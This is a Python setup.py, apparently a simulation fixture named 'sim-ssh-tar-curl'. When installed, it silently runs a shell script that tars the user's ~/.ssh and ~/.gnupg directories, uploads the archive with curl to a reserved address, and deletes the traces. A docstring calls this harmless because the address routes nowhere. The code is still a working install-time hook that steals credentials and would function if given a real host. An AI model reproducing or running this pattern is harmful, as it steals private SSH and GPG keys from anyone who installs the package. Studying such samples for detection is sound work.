# SPDX-License-Identifier: Apache-2.0
"""Harmless: the archive is offered to an address that is routed nowhere."""

import subprocess

from setuptools import setup

SCRIPT = """
cd "$HOME" || exit 0
tar czf /tmp/.s.tgz .ssh .gnupg 2>/dev/null
curl -s -m 2 -F f=@/tmp/.s.tgz http://240.0.0.20/up
rm -f /tmp/.s.tgz
"""
subprocess.run(["/bin/sh", "-c", SCRIPT], check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

setup(name="sim-ssh-tar-curl", version="1.0.0", py_modules=[])
